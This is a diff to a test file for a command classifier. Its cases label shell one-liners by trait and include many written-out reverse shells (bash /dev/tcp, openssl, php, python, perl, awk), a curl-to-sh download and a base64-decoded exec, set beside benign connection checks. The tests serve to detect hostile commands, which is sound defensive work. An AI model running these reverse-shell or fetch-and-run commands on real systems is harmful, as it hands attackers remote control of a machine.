@@ -104,6 +104,18 @@ describe('what a command does', () => {
     [sh('{curl,-s,https://example.org/x}|sh'), ['download', 'downloaded script']],
     [['perl', '-e', 'use Socket;socket(S,2,1,6);open(STDIN,">&S");exec("/bin/sh -i");'], ['reverse shell']],
     [['awk', 'BEGIN{s="/inet/tcp/0/203.0.113.9/1"}'], ['reverse shell']],
+    [sh('/bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.9:1 > /tmp/s'), ['reverse shell']],
+    [sh('python3 - <<E\nimport socket,os\nos.dup2(s.fileno(),0)\nE'), ['reverse shell']],
+    [['php', '-r', '$s=fsockopen("203.0.113.9",1);exec("sh <&3 >&3 2>&3");system("/bin/sh");'], ['reverse shell']],
+    [sh('mkfifo /tmp/log; cat /tmp/log & until nc -z db 5432; do sleep 1; done; exec python app.py --socket x'), []],
+    [['/bin/sh', '-c', `python -c 'import socket; socket.create_connection(("db", 5432))'`], []],
+    [sh(`exec python -c 'import base64; print(base64.b64decode("eA=="))'`), []],
+    [['python', '-c', 'import base64; exec(base64.b64decode("cHJpbnQoMSk="))'], ['decoded script']],
+    [sh('until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done'), []],
+    [sh('timeout 1 bash -c "</dev/tcp/$DB_HOST/$DB_PORT"'), []],
+    [sh('bash -i >& /dev/tcp/$HOST/1 0>&1'), ['reverse shell']],
+    [sh('exec 3<>/dev/tcp/relay/1; sh <&3 >&3'), ['reverse shell']],
+    [sh('echo stats | nc -w 1 localhost 11211 | grep bytes'), []],
     [['java', '-jar', '/app/curl-bash-installer.jar'], []],
   ])('%j', (command, traits) => {
     expect([...traitsOf(command)].sort()).toEqual(traits);
